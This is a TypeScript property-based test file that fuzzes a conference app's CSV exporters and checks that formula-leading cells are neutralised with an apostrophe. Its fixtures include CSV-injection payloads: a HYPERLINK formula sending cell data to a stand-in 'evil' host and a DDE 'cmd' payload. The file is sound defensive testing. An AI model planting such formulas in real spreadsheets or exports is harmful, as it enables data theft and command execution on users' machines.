// Every CSV Foyer writes, under any text (fast-check), through the real exporters: the station's
// attendance export ('occupancy.export', as the Rooms screen asks for it) and the registry's
// exportCsv (GET /v1/admin/export/…), with hostile names, organisations, delegations, session
// titles and room names stored first. Read back by a CSV parser, each cell is the stored text,
// with one apostrophe in front exactly when a spreadsheet would otherwise run it as a formula;
// no cell ever starts with = + - @ tab or CR.
import fs from 'node:fs';
import path from 'node:path';
import { eq, sql } from 'drizzle-orm';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportFile } from '../../core/api/occupancy';
import { toCsv } from '../../core/csv';
import { localToMillis } from '../../core/time';
import { attendees, rooms, sessions } from '../../db/schema/index';
import { openRegistryDb, type RegistryDb } from '../../registry/db';
import { exportCsv } from '../../registry/exports';
import { attendees as regAttendees } from '../../registry/schema';
import { upsertAttendees } from '../../registry/store';
import { createHandlers, dispatch } from '../../station/handlers/index';
import type { Station } from '../../station/station';
import { pgliteTemplate } from '../../testkit/registry-proc';
import { tempDir } from '../../testkit/temp';
import { demoCodes, freshStation } from '../helpers/station';

const DANGEROUS = /^[=+\-@\t\r]/;
const text = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\r\n', '"', ',', ' =', '\uFEFF='), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
  fc.constantFrom('=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1\n=2+2'),
);
const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', delimiter: ',' }).data;

/** What a spreadsheet must show for a stored text: the text, behind an apostrophe when it would run. */
const shown = (stored: string) => (DANGEROUS.test(stored) ? `'${stored}` : stored);
const expectSafe = (cells: string[]) => cells.forEach((c) => expect(c).not.toMatch(DANGEROUS));

describe('the shared CSV writer (core/csv.ts)', () => {
  it('round-trips any table of text: every cell as stored, formulas behind an apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const width = rows[0]!.length;
        const table = [Array.from({ length: width }, (_, i) => `Column ${i + 1}`), ...rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''))];
        const back = parse(toCsv(table)).slice(0, -1); // the file ends with CRLF: drop the empty last line
        expect(back).toEqual(table.map((r) => r.map(shown)));
        back.forEach(expectSafe);
      }),
      { numRuns: 300, seed: 31 },
    );
  });
});

describe('the station attendance export, hostile text stored in the list', () => {
  let station: Station;
  let now: number;
  let scanned: { attendeeId: string }[];
  const handlers = createHandlers({ now: () => now });
  const call = async <T,>(method: string, args: unknown): Promise<T> => {
    const r = await dispatch(handlers, station, method as never, args);
    if (!r.ok) throw new Error(`${method}: ${r.error.message}`);
    return r.value as T;
  };

  beforeAll(async () => {
    ({ station } = freshStation());
    now = localToMillis(station.eventInfo().days[0]!, '13:10', station.eventInfo().timeZone); // during the Ratsaal side event (s3)
    await call('door.configure', { roomId: 'ratsaal', mode: 'entry', name: 'Ratsaal door' });
    scanned = [];
    for (const c of demoCodes(station, 60)) {
      if (scanned.length === 4) break;
      const r = await call<{ verdict: string }>('door.scan', { text: c.code });
      if (r.verdict === 'admitted') scanned.push({ attendeeId: c.attendeeId });
    }
    expect(scanned).toHaveLength(4);
    now += 20 * 60_000;
  });
  afterAll(() => station.close());

  it('every cell is the stored text; formulas behind an apostrophe', async () => {
    const person = fc.record({ givenName: text, familyName: text, organisation: text, delegation: text });
    await fc.assert(
      fc.asyncProperty(fc.array(person, { minLength: 4, maxLength: 4 }), text.filter((t) => t.trim() !== ''), text.filter((t) => t.trim() !== ''), async (people, title, roomName) => {
        station.write(() => {
          people.forEach((p, i) => station.db.orm.update(attendees).set(p).where(eq(attendees.id, scanned[i]!.attendeeId)).run());
          station.db.orm.update(sessions).set({ title }).where(eq(sessions.id, 's3')).run();
          station.db.orm.update(rooms).set({ name: roomName }).where(eq(rooms.id, 'ratsaal')).run();
        });
        station.invalidate();
        const f = await call<ExportFile>('occupancy.export', { kind: 'attendance_csv', sessionId: 's3' });
        const csv = fs.readFileSync(f.path, 'utf8');
        const [header, ...rows] = parse(csv).slice(0, -1);
        const col = (label: RegExp) => header!.findIndex((h) => label.test(h));
        const cols = [/^Session/, /^Room/, /\bid\b/i, /^Name/, /^Organi[sz]ation/, /^Delegation/].map(col);
        expect(cols.every((i) => i >= 0), header!.join(',')).toBe(true);
        const [cSession, cRoom, cId, cName, cOrg, cDel] = cols as [number, number, number, number, number, number];
        expect(rows).toHaveLength(4);
        for (const r of rows) {
          expectSafe(r);
          const p = people[scanned.findIndex((s) => s.attendeeId === r[cId])]!;
          expect(p, `row for ${r[cId]}`).toBeDefined();
          expect(r[cSession]).toBe(shown(title));
          expect(r[cRoom]).toBe(shown(roomName));
          expect(r[cOrg]).toBe(shown(p.organisation));
          expect(r[cDel]).toBe(shown(p.delegation));
          // The name cell holds the given and the family name, in that order.
          const name = r[cName]!.startsWith("'") && DANGEROUS.test(r[cName]!.slice(1)) ? r[cName]!.slice(1) : r[cName]!;
          expect(name.startsWith(p.givenName) && name.endsWith(p.familyName), `${JSON.stringify(name)} ← ${JSON.stringify(p)}`).toBe(true);
        }
      }),
      { numRuns: 40, seed: 33 },
    );
  });
});

describe('the registry exports, hostile text stored in the list', () => {
  let db: RegistryDb;
  beforeAll(async () => {
    const dir = tempDir('foyer-csv-fuzz-reg-');
    fs.cpSync(await pgliteTemplate(), path.join(dir, 'pgdata'), { recursive: true });
    db = await openRegistryDb({ dataDir: dir });
  }, 120_000);
  afterAll(async () => db?.close());

  it('attendees.csv: every text field is the stored text; formulas behind an apostrophe', async () => {
    // PostgreSQL text cannot hold NUL (the registry refuses it at its edges), so none is stored here.
    const field = text.map((t) => t.replace(/\0/g, ''));
    const person = fc.record({ givenName: field, familyName: field, organisation: field, delegation: field, notes: field });
    await fc.assert(
      fc.asyncProperty(fc.array(person, { minLength: 1, maxLength: 4 }), async (people) => {
        const records = people.map((p, i) => ({ ...p, id: `fuzz-${i}`, country: 'AT', category: 'ngo' as const, validDays: null, status: 'active' as const, badgeVersion: 1, badgeCodes: [`FUZZ-${i}`] }));
        await db.orm.execute(sql`delete from attendees`);
        await upsertAttendees(db.orm, records, Date.now());
        const csv = await exportCsv(db.orm, 'attendees.csv');
        const back = Papa.parse<Record<string, string>>(csv, { header: true, newline: '\r\n', delimiter: ',' }).data;
        expect(back).toHaveLength(records.length);
        // Compared with what the registry stored (it cleans control and format characters on the way in).
        const stored = await db.orm.select().from(regAttendees);
        for (const r of back) {
          expectSafe(Object.values(r));
          const p = stored.find((x) => x.id === r.id)!;
          for (const k of ['givenName', 'familyName', 'organisation', 'delegation', 'notes'] as const) expect(r[k], k).toBe(shown(p[k]));
        }
      }),
      { numRuns: 40, seed: 32 },
    );
  }, 120_000);
});
